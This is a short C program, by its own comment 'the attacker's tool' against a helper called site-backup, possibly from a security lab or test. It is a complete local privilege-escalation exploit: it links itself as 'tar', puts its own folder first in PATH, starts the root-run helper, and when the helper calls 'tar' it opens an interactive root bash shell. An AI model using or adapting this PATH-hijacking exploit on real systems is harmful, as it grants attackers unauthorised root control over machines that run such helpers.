// SPDX-License-Identifier: Apache-2.0
// The attacker's tool against site-backup: called as anything else it puts itself first in PATH
// under the name "tar" and starts the helper; called as "tar" by the helper, now root, it opens a
// shell.
#include <libgen.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define HELPER "/usr/local/bin/site-backup"

int main(int argc, char** argv) {
  char self[4096] = {0}, path[8192];
  (void)argc;
  if (strcmp(basename(argv[0]), "tar") == 0) {
    execl("/bin/bash", "bash", "-i", (char*)NULL);
    perror("bash");
    return 1;
  }
  if (readlink("/proc/self/exe", self, sizeof self - 1) < 0) return perror("readlink"), 1;
  char* folder = dirname(strdup(self));
  snprintf(path, sizeof path, "%s/tar", folder);
  unlink(path);
  if (symlink(self, path) != 0) return perror("symlink"), 1;
  snprintf(path, sizeof path, "%s:%s", folder, getenv("PATH") ? getenv("PATH") : "/bin");
  setenv("PATH", path, 1);
  execl(HELPER, HELPER, (char*)NULL);
  perror(HELPER);
  return 1;
}
